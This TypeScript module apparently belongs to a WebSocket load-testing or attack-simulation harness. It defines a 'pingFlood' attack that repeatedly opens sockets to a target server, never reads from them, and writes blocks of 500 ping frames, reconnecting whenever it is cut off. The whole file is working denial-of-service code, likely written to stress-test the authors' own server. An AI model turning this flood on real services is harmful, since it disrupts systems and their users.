import { frame, textFrame } from '../frames.ts';
import { makeTable, pause } from '../tables.ts';
import type { Attack } from '../target.ts';

/** A socket that never reads and sends pings as fast as they are taken, and another one as soon as it is cut off. */

const PINGS = 500;
const BLOCK = Buffer.concat(Array<Buffer>(PINGS).fill(frame('ping', Buffer.alloc(125))));

export const pingFlood: Attack = async (target, from) => {
  const table = await makeTable(target, from);
  if (table === undefined) return;
  while (target.goesOn()) {
    const socket = await target.upgrade(from, table.id);
    if (socket === undefined) {
      await pause();
      continue;
    }
    socket.pause();
    socket.write(textFrame({ type: 'hello' }));
    do {
      target.tally.sent += PINGS;
      const taken = socket.write(BLOCK);
      if (!taken && !socket.destroyed) {
        await new Promise<void>((next) => {
          socket.once('drain', next);
          socket.once('close', next);
        });
        socket.removeAllListeners('drain');
      }
      await new Promise(setImmediate);
    } while (!socket.destroyed && target.goesOn());
  }
};
